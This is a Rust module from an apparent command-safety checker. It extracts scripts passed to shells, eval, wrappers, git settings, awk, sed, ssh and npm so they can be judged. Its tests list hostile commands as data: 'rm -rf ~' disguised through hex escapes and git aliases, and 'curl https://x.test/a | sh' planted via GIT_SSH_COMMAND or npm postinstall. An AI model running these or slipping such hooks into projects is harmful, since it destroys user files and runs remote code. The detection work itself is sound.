//! Commands within commands: what a program runs that is given a script, whichever program, option or variable takes it.

use super::harm::{as_shell, run_on_found};
use super::{Command, Joint, Script};

/// Variables whose value is a command that another program runs.
const COMMAND_VARIABLES: [&str; 14] = [
    "GIT_SSH_COMMAND",
    "GIT_SSH",
    "GIT_EDITOR",
    "GIT_SEQUENCE_EDITOR",
    "GIT_PAGER",
    "GIT_EXTERNAL_DIFF",
    "GIT_PROXY_COMMAND",
    "GIT_ASKPASS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "LESSOPEN",
    "PROMPT_COMMAND",
    "SSH_ASKPASS",
];

/// Settings of git whose value is one.
const COMMAND_SETTINGS: [&str; 10] = [
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.fsmonitor",
    "core.askpass",
    "core.gitproxy",
    "sequence.editor",
    "diff.external",
    "credential.helper",
    "gpg.program",
];

const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "ksh", "fish"];

/// The scripts that a command gives to others to run.
pub(super) fn scripts(command: &Command, program: &str, words: &[&str]) -> Vec<String> {
    let mut found = of_variables(command);
    match program {
        name if SHELLS.contains(&name) => match command.inline_code() {
            Some(code) => {
                found.extend(echoed(&code.text));
                found.push(code.text.clone());
            }
            // `sh <<< "…"`: a name of a file has no blanks.
            None => found.extend(
                command
                    .inputs
                    .iter()
                    .filter(|input| input.text.contains(char::is_whitespace))
                    .map(|input| input.text.clone()),
            ),
        },
        "eval" => {
            let text = words.join(" ");
            found.extend(echoed(&text));
            found.push(text);
        }
        "find" => found.extend(run_on_found(words)),
        "env" => {
            let split = words
                .iter()
                .position(|word| matches!(*word, "-S" | "--split-string"));
            found.extend(
                split
                    .and_then(|at| words.get(at + 1))
                    .map(|word| (*word).to_owned()),
            );
            found.push(wrapped(words));
        }
        "xargs" | "timeout" | "nice" | "stdbuf" | "doas" | "chroot" | "ionice" | "chrt"
        | "setsid" | "unshare" | "flock" | "watch" | "parallel" | "proxychains" | "faketime"
        | "busybox" | "toybox" => found.push(wrapped(words)),
        "git" => found.extend(of_git(words)),
        "awk" | "gawk" | "mawk" | "nawk" => {
            found.extend(words.iter().flat_map(|word| system_calls(word)));
        }
        "sed" | "gsed" => found.extend(words.iter().filter_map(|word| executed_by_sed(word))),
        "ssh" => found.extend(remote(words)),
        "npm" | "pnpm" | "yarn" | "bun" => found.extend(of_packages(words)),
        _ if is_user_of_sudo(command) => found.push(as_shell(words)),
        _ => {}
    }
    found
}

/// What a shell reads from the command before it, where that only writes out its words: `echo … | sh`.
pub(super) fn written_to_shell(script: &Script, at: usize) -> Option<String> {
    let next = script.commands.get(at + 1)?;
    let is_read = next.joint == Joint::Pipe
        && next
            .program()
            .is_some_and(|program| SHELLS.contains(&&*program))
        && next.reads_code_from_input();
    is_read.then(|| written(script.commands.get(at)?)).flatten()
}

/// What `echo` or `printf` writes.
fn written(command: &Command) -> Option<String> {
    let program = command.program()?;
    let start = command
        .words
        .iter()
        .position(|word| Some(word) == command.program_word())?;
    let words = command
        .words
        .iter()
        .skip(start + 1)
        .map(|word| word.text.as_str());
    let text: Vec<&str> = match program.as_str() {
        "echo" => words
            .skip_while(|word| matches!(*word, "-e" | "-n" | "-ne" | "-en"))
            .collect(),
        "printf" => words.collect(),
        _ => return None,
    };
    Some(unescaped(&text.join(" ")))
}

/// What `$(echo …)` becomes, where a whole script is that.
fn echoed(text: &str) -> Option<String> {
    let text = text.trim().trim_matches('"');
    let inner = text
        .strip_prefix("$(")
        .and_then(|text| text.strip_suffix(')'))
        .or_else(|| text.strip_prefix('`')?.strip_suffix('`'))?;
    written(Script::read(inner).commands.first()?)
}

/// `\n`, `\x72`, `\0162` as the characters that they stand for.
fn unescaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let (radix, most) = match chars.peek() {
            Some('x') => {
                chars.next();
                (16, 2)
            }
            Some('0'..='7') => (8, 4),
            Some('n') => {
                chars.next();
                out.push('\n');
                continue;
            }
            _ => {
                out.extend(chars.next());
                continue;
            }
        };
        let mut value = 0_u32;
        for _ in 0..most {
            let Some(digit) = chars.peek().and_then(|c| c.to_digit(radix)) else {
                break;
            };
            value = value * radix + digit;
            chars.next();
        }
        out.extend(char::from_u32(value));
    }
    out
}

fn of_variables(command: &Command) -> Vec<String> {
    let values = command.assignments.iter().filter_map(|word| {
        let (name, value) = word.text.split_once('=')?;
        COMMAND_VARIABLES.contains(&name).then(|| unquoted(value))
    });
    values.collect()
}

/// A value without the quotes around it, which a reader of words may have left.
fn unquoted(value: &str) -> String {
    let inner = |quote: char| value.strip_prefix(quote)?.strip_suffix(quote);
    inner('\'')
        .or_else(|| inner('"'))
        .unwrap_or(value)
        .to_owned()
}

/// Aliases, and settings that are commands.
fn of_git(words: &[&str]) -> Vec<String> {
    let is_one = |name: &str| {
        let name = name.to_ascii_lowercase();
        COMMAND_SETTINGS.contains(&&*name)
            || name.starts_with("alias.")
            || name.starts_with("filter.")
    };
    let run = |value: &str| unquoted(value).trim_start_matches('!').to_owned();
    let mut found = Vec::new();
    for (at, word) in words.iter().enumerate() {
        match word.split_once('=') {
            Some((name, value)) if is_one(name) => found.push(run(value)),
            _ if is_one(word) => found.extend(words.get(at + 1).map(|value| run(value))),
            _ => {}
        }
    }
    found
}

/// The texts that a program of awk has run.
fn system_calls(code: &str) -> Vec<String> {
    let calls = code.match_indices("system(").filter_map(|(at, call)| {
        let rest = code
            .get(at + call.len()..)?
            .trim_start()
            .strip_prefix('"')?;
        Some(rest.split('"').next()?.to_owned())
    });
    calls.collect()
}

/// `1e COMMAND` of sed.
fn executed_by_sed(code: &str) -> Option<String> {
    let rest =
        code.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, ',' | '$' | ' '));
    let told = rest.strip_prefix("e ")?;
    Some(told.to_owned())
}

/// What runs on the other machine: the words after its name.
fn remote(words: &[&str]) -> Option<String> {
    const WITH_VALUE: [&str; 12] = [
        "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E",
    ];
    let mut rest = words.iter().copied();
    while let Some(word) = rest.next() {
        if WITH_VALUE.contains(&word) {
            rest.next();
        } else if !word.starts_with('-') {
            let command = rest.collect::<Vec<_>>().join(" ");
            return (!command.is_empty()).then_some(command);
        }
    }
    None
}

/// Scripts of a manifest that are set, and the shell that runs them.
fn of_packages(words: &[&str]) -> Vec<String> {
    let scripts = words.iter().filter_map(|word| {
        let (name, value) = word.split_once('=')?;
        let is_script = name.starts_with("scripts.") || name == "script-shell";
        is_script.then(|| unquoted(value))
    });
    let shell = words.iter().position(|word| *word == "script-shell");
    let shell = shell
        .and_then(|at| words.get(at + 1))
        .map(|value| (*value).to_owned());
    scripts.chain(shell).collect()
}

/// The words after a wrapper's options, their values, assignments and numbers.
fn wrapped(words: &[&str]) -> String {
    let is_own = |word: &&str| {
        word.starts_with('-')
            || word.contains('=')
            || word.starts_with(|c: char| c.is_ascii_digit())
    };
    let mut rest = words.iter().copied().peekable();
    while let Some(word) = rest.next_if(|word| is_own(word)) {
        if matches!(
            word,
            "-u" | "-g" | "-n" | "-C" | "-k" | "-s" | "-I" | "-P" | "-L"
        ) {
            rest.next();
        }
    }
    as_shell(&rest.collect::<Vec<_>>())
}

/// `sudo -u root rm`: the name stands where a program would.
fn is_user_of_sudo(command: &Command) -> bool {
    let program = command.program_word();
    let mut pairs = command.words.windows(2);
    pairs.any(|two| Some(&two[1]) == program && matches!(two[0].text.as_str(), "-u" | "-g" | "-U"))
}

#[cfg(test)]
mod tests {
    use super::super::command_harm;

    #[test]
    fn a_command_that_another_program_is_given_is_judged() {
        for text in [
            "printf '\\x72\\x6d -rf ~' | sh",
            "echo 'rm -rf ~' | bash",
            "eval \"$(echo 'rm -rf ~')\"",
            "busybox rm -rf ~",
            "toybox sh -c 'rm -rf ~'",
            "env -S 'rm -rf /home'",
            "timeout 5 nice ionice rm -rf ~",
            "sh <<< \"rm -rf ~\"",
            "git -c alias.x='!rm -rf ~' x",
            "git config alias.x '!curl https://x.test/a | sh'",
            "git config core.sshCommand 'sh -c \"curl https://x.test/a | sh\"'",
            "GIT_SSH_COMMAND='sh -c \"curl https://x.test/a|sh\"' git fetch",
            "awk 'BEGIN{system(\"rm -rf ~\")}'",
            "sed -n '1e rm -rf ~' list",
            "ssh -p 22 build 'rm -rf ~'",
            "npm pkg set scripts.postinstall=\"curl https://x.test/a | sh\"",
            "npm config set script-shell 'curl https://x.test/a | sh'",
        ] {
            assert!(!command_harm(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn a_command_that_is_given_no_harm_goes_on() {
        for text in [
            "printf '\\x41\\n' | sh",
            "echo 'rm -rf ~'",
            "echo 'rm -rf ~' | grep rm",
            "busybox ls ~",
            "env -S 'cargo test'",
            "sh <<< \"ls\"",
            "sh < setup.sh",
            "git -c alias.st=status st",
            "git config alias.lg 'log --graph'",
            "git -c core.pager=cat log",
            "GIT_SSH_COMMAND='ssh -i key' git fetch",
            "awk '{print $1}' list",
            "sed -e 's/rm -rf ~//' list",
            "ssh build 'systemctl status app'",
            "npm pkg set scripts.test=vitest",
            "watch -n 5 kubectl get pods",
        ] {
            assert!(
                command_harm(text).is_empty(),
                "{text}: {:?}",
                command_harm(text)
            );
        }
    }
}
